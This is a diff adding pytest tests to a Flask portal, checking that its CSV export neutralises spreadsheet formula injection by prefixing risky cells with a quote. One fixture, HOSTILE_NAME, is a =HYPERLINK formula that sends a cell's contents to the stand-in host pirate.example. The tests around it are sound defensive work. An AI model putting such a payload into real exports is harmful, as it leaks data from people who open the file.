@@ -402,6 +402,57 @@ def test_csv_export_of_not_activated_only(client: FlaskClient, coordinator: Admi
     assert [row[5] for row in rows[1:]] == [INVITED["email"], EXPIRED["email"], NEVER["email"]]
 
 
+HOSTILE_NAME = '=HYPERLINK("http://pirate.example/?x="&A1;"Cliquez")'
+
+
+def test_csv_export_neutralises_formulas(
+    client: FlaskClient, coordinator: AdminApi, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """OWASP CSV injection: a cell a spreadsheet would read as a formula (=, +, -, @, tab,
+    carriage return first) is prefixed with a single quote, in every column alike."""
+    monkeypatch.setitem(group_json.__globals__["ADHERENT_NAMES"], SIREN_A, HOSTILE_NAME)
+    module = globals()
+    monkeypatch.setitem(module, "INVITED", {**INVITED, "email": "+cmd@demoville.fr"})
+    monkeypatch.setitem(module, "EXPIRED", {**EXPIRED, "email": "-2+3@syndicat-demoville.fr"})
+    monkeypatch.setitem(module, "NEVER", {**NEVER, "email": "@SUM(1+1)@syndicat-demoville.fr"})
+    monkeypatch.setitem(
+        module, "NOT_ACTIVATED", (module["INVITED"], module["EXPIRED"], module["NEVER"])
+    )
+    dataset(coordinator)
+    body = client.get(f"{BASE}/export.csv").get_data().decode("utf-8-sig")
+    rows = list(csv.reader(io.StringIO(body), delimiter=";"))
+    assert rows[1][2] == "'" + HOSTILE_NAME
+    assert {row[5] for row in rows[1:]} == {
+        ACTIVE["email"],
+        "'+cmd@demoville.fr",
+        "'-2+3@syndicat-demoville.fr",
+        "'@SUM(1+1)@syndicat-demoville.fr",
+    }
+    for row in rows:
+        for cell in row:
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
+
+
+@pytest.mark.parametrize(
+    ("value", "written"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+33612345678", "'+33612345678"),
+        ("-1", "'-1"),
+        ("@cmd", "'@cmd"),
+        ("\t=1", "'\t=1"),
+        ("\r=1", "'\r=1"),
+        ("Commune de Démoville", "Commune de Démoville"),
+        ("a=1", "a=1"),
+        ("", ""),
+    ],
+)
+def test_csv_cell(value: str, written: str) -> None:
+    from portal.suivi import csv_cell
+
+    assert csv_cell(value) == written
+
+
 # --- re-sending invitations ---------------------------------------------------------------------
 
 
